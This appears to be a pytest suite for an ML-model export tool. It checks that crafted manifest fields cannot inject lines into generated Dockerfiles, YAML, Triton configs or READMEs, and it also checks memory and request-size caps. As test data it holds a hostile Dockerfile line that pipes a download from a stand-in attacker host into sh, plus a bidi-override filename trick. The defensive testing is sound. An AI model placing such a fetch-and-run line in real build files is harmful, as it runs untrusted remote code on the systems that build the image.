"""``edgesdk export`` fed crafted manifests: a string with a newline or another control character never becomes a
line of the Dockerfile, the YAML, the Triton config or a README (refused, naming the field; and escaped by every
writer, should one get past the check); the exported memory covers what ``edgesdk serve`` accepts."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from edgesdk import Bundle
from edgesdk.errors import BundleError, InputError
from edgesdk_cloud import export
from edgesdk_cloud.escaping import check_text, md_code
from edgesdk_cloud.limits import ServeLimits
from edgesdk_cloud.triton_files import triton_config, triton_readme

INJECTED = "RUN curl -s http://attacker.invalid/x | sh"
CRAFTED = {
    "version newline": (("version",), f"1\n{INJECTED}", "'version'"),
    "version carriage return": (("version",), f"1\r{INJECTED}", "'version'"),
    "name newline": (("name",), f"digits\n{INJECTED}", "'name'"),
    "version bidi override": (("version",), "1\u202egnp.exe", "'version'"),
    "version line separator": (("version",), f"1\u2028{INJECTED}", "'version'"),
    "input name newline": (("inputs", 0, "name"), f"x\n{INJECTED}", "'inputs[0].name'"),
}


def craft(bundle: Path, path: tuple, value) -> None:
    manifest_path = bundle / "manifest.json"
    manifest = json.loads(manifest_path.read_text())
    node = manifest
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    manifest_path.write_text(json.dumps(manifest))


def generated_lines(out: Path) -> list[str]:
    return [line for f in out.rglob("*") if f.is_file() and f.suffix in ("", ".yaml", ".md", ".pbtxt")
            and f.name != "manifest.json" for line in f.read_text().splitlines()]


@pytest.mark.parametrize("case", CRAFTED, ids=list(CRAFTED))
@pytest.mark.parametrize("kind", ["kserve", "triton"])
def test_a_control_character_in_a_manifest_string_is_refused_naming_the_field(bundle_copy, tmp_path, case, kind):
    path, value, field = CRAFTED[case]
    craft(bundle_copy, path, value)
    out = tmp_path / "out"
    run = export.export_kserve if kind == "kserve" else export.export_triton
    with pytest.raises(BundleError) as refused:
        run(bundle_copy, out)
    # export names the field as `field`; the bundle reader, should it refuse first, names it too
    assert field in str(refused.value) or field.strip("'").split("[")[0] in str(refused.value), refused.value
    assert not out.exists()


def test_every_writer_escapes_a_string_that_got_past_the_check(digits_bundle):
    bundle = Bundle.open(digits_bundle.bundle)
    chosen = bundle.artifact("onnxruntime-fp32")
    bundle.manifest["version"] = f"1\n{INJECTED}\r\n{INJECTED}\u2028{INJECTED}"  # as if the check were skipped
    bundle.manifest["name"] = f"digits\n{INJECTED}`"
    limits = ServeLimits.for_manifest(bundle.manifest)
    names = {"inputs": ["x"], "outputs": ["output_0"]}
    texts = {
        # private: each writer alone, fed a crafted manifest the public export refuses
        "Dockerfile": export._dockerfile(bundle, chosen, "digits.bundle", {}),
        "inferenceservice.yaml": export._inference_service(bundle, chosen, "img:1", limits),
        "README.md": export._kserve_readme(bundle, chosen, "img:1", "digits.bundle", limits),
        "config.pbtxt": triton_config(bundle, chosen, names),
        "triton README.md": triton_readme(bundle, chosen, names, export.MARKER),
    }
    for name, text in texts.items():
        lines = text.splitlines()
        assert not [line for line in lines if line.lstrip("# ").startswith("RUN curl")], name
        assert "\r" not in text and "\u2028" not in text, name
    yaml_doc = yaml.safe_load(texts["inferenceservice.yaml"])
    assert yaml_doc["metadata"]["annotations"]["edgesdk/bundle-version"] == bundle.manifest["version"]
    dockerfile_instructions = [line.split()[0] for line in texts["Dockerfile"].splitlines()
                               if line.strip() and not line.startswith("#")]
    assert set(dockerfile_instructions) == {"ARG", "FROM", "RUN", "ENV", "COPY", "EXPOSE", "ENTRYPOINT"}
    assert sum(line.startswith("RUN ") for line in texts["Dockerfile"].splitlines()) == 1


@pytest.mark.parametrize("value, field", [("ok\u0000", "'x'"), ("", "'x'"), ("a" * 300, "'x'"), (7, "'x'")])
def test_check_text_refuses_naming_the_field(value, field):
    with pytest.raises(BundleError, match=field):
        check_text(value, field)


def test_md_code_cannot_be_closed_from_inside():
    assert md_code("a`b") == "``a`b``" and md_code("`x") == "`` `x ``"


def test_the_exported_memory_covers_the_server_caps_with_the_arithmetic(digits_bundle, tmp_path):
    out = export.export_kserve(digits_bundle.bundle, tmp_path / "k").out
    text = (out / "inferenceservice.yaml").read_text()
    container = yaml.safe_load(text)["spec"]["predictor"]["containers"][0]
    limits = ServeLimits.for_manifest(Bundle.open(digits_bundle.bundle).manifest)
    requested = int(container["resources"]["requests"]["memory"].removesuffix("Mi"))
    model_bytes = sum(f["bytes"] for f in Bundle.open(digits_bundle.bundle).artifact("onnxruntime-fp32")
                      .entry["files"])
    floor = 512 + (3 * model_bytes + limits.max_pending * limits.request_cost_bytes) / 2**20
    assert requested >= floor
    assert int(container["resources"]["limits"]["memory"].removesuffix("Mi")) == 2 * requested
    assert "# Memory request: 512 MiB server + 3 x" in text and f"= {requested} MiB" in text.replace("\n# ", " ")
    annotations = yaml.safe_load(text)["metadata"]["annotations"]
    assert annotations["edgesdk/max-batch"] == "64" and annotations["edgesdk/max-body-bytes"] == str(
        limits.max_body_bytes)


def test_raised_caps_raise_the_memory_and_reach_the_entrypoint(digits_bundle, tmp_path):
    small = export.export_kserve(digits_bundle.bundle, tmp_path / "a").out
    big = export.export_kserve(digits_bundle.bundle, tmp_path / "b", max_batch=4096,
                               max_body_bytes=400 << 20).out

    def memory(out: Path) -> int:
        doc = yaml.safe_load((out / "inferenceservice.yaml").read_text())
        return int(doc["spec"]["predictor"]["containers"][0]["resources"]["requests"]["memory"].removesuffix("Mi"))

    assert memory(big) >= memory(small) + 4 * 2 * 400  # 4 requests, each holding its 400 MiB body twice
    line = next(line for line in (big / "Dockerfile").read_text().splitlines() if line.startswith("ENTRYPOINT"))
    args = json.loads(line.removeprefix("ENTRYPOINT "))
    assert args[-4:] == ["--max-batch", "4096", "--max-body-bytes", str(400 << 20)]


def test_the_triton_config_and_readme_carry_the_one_image_body_cap(digits_bundle, tmp_path):
    out = export.export_triton(digits_bundle.bundle, tmp_path / "t").out
    cap = 64 * 32 + 64 * 1024
    assert f"--http-max-input-size={cap}" in (out / "digits" / "config.pbtxt").read_text()
    assert f"--http-max-input-size={cap}" in (out / "README.md").read_text()


@pytest.mark.parametrize("option, value", [("max_batch", 0), ("max_batch", 5000), ("max_body_bytes", 10),
                                           ("max_batch", True)])
def test_caps_out_of_range_are_refused(digits_bundle, tmp_path, option, value):
    with pytest.raises(InputError, match=option):
        export.export_kserve(digits_bundle.bundle, tmp_path / "x", **{option: value})


def dynamic_image(bundle: Path, leading: int = 1) -> None:
    """The digits input as a model with dynamic height and width (the bundle schema's -1)."""
    craft(bundle, ("inputs", 0, "shape"), [leading, 1, -1, -1])


def test_a_dynamic_input_dimension_needs_the_caps_named_not_a_negative_body_cap(bundle_copy, tmp_path):
    dynamic_image(bundle_copy)
    with pytest.raises(InputError, match=r"input\(s\) 'x' have a dynamic dimension \(-1\) after the batch, so the size "
                                         r"of a request cannot be derived from the manifest; give max_body_bytes "
                                         r"\(--max-body-bytes\) and max_batch \(--max-batch\)") as refused:
        export.export_kserve(bundle_copy, tmp_path / "k")
    assert "got -" not in str(refused.value)
    assert not (tmp_path / "k").exists()


def test_a_dynamic_input_with_the_caps_given_exports_memory_for_its_body_cap(bundle_copy, tmp_path):
    dynamic_image(bundle_copy, leading=-1)
    out = export.export_kserve(bundle_copy, tmp_path / "k", max_batch=2, max_body_bytes=8 << 20).out
    text = (out / "inferenceservice.yaml").read_text()
    memory = yaml.safe_load(text)["spec"]["predictor"]["containers"][0]["resources"]["requests"]["memory"]
    # 4 requests, each holding its 8 MiB body twice and parsing up to 4 Mi values at 128 bytes
    assert int(memory.removesuffix("Mi")) >= 512 + 4 * (2 * 8 + 128 * 4)
    line = next(line for line in (out / "Dockerfile").read_text().splitlines() if line.startswith("ENTRYPOINT"))
    assert json.loads(line.removeprefix("ENTRYPOINT "))[-4:] == ["--max-batch", "2", "--max-body-bytes", str(8 << 20)]


def test_triton_of_a_dynamic_input_leaves_the_body_cap_to_the_user(bundle_copy, tmp_path):
    dynamic_image(bundle_copy)
    out = export.export_triton(bundle_copy, tmp_path / "t").out
    config = (out / "digits" / "config.pbtxt").read_text()
    assert "dims: [ 1, 1, -1, -1 ]" in config and "--http-max-input-size=<bytes>" in config
    readme = (out / "README.md").read_text()
    assert "--http-max-input-size=<bytes>" in readme and "input(s) `x` have a dynamic dimension (-1)" in readme
